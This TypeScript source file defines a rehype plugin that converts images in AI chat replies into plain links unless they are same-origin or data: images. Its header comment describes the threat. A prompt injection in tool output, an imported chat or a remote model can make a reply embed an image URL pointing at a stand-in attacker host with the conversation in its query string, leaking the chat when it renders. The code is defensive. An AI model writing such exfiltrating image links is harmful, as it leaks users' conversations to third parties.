import type { Element, ElementContent, Root } from "hast";

/**
 * Images in a reply are shown only from the app itself or from `data:`. Anything else is a URL a
 * reply chose — a prompt injection in a tool's output, an imported conversation or a remote model
 * can make it write `![](https://attacker/?q=<the conversation>)` — and showing it would send the
 * request as soon as it renders. Such an image becomes a link with its alt text, followed only if
 * the user clicks it. (The pages' Content-Security-Policy, `img-src 'self' data:`, blocks the
 * fetch too.) Streamdown's own image rule (rehype-harden's allowed prefixes) would need the
 * page's origin, which a server rendering does not know, and blocks instead of linking.
 */

// Resolving against a base of our own applies the browser's URL rules (`//host`, `/\host`, tabs
// inside the scheme…) rather than guessing at them.
const BASE = new URL("https://this-app.invalid/");

function isDataImage(url: URL): boolean {
  return url.protocol === "data:" && url.pathname.toLowerCase().startsWith("image/");
}

/** Whether `src` may be shown as an image: a URL of the page's own origin, or a `data:` image. */
export function isInlineImageSource(src: string): boolean {
  if (!URL.canParse(src, BASE)) return false;
  const url = new URL(src, BASE);
  return isDataImage(url) || url.origin === BASE.origin;
}

/**
 * A rehype plugin: every image that may not be shown inline becomes a link to it. It runs before
 * the sanitizer (markdown-sanitize.ts), which then drops any such link's unsafe `href`.
 */
export function rehypeImagesAsLinks() {
  return (tree: Root) => {
    rewrite(tree, false);
  };
}

function rewrite(parent: Root | Element, insideLink: boolean): void {
  parent.children = parent.children.map((child) => {
    if (child.type !== "element") return child;
    if (child.tagName === "img") {
      const src = String(child.properties.src ?? "");
      if (isInlineImageSource(src)) return child;
      const text: ElementContent = { type: "text", value: String(child.properties.alt || src) };
      // Inside a link already, the alt text alone: a link may not hold another.
      if (insideLink) return text;
      return {
        type: "element",
        tagName: "a",
        properties: { href: src, className: ["image-link"], title: "Image (not loaded)" },
        children: [text],
      };
    }
    rewrite(child, insideLink || child.tagName === "a");
    return child;
  });
}
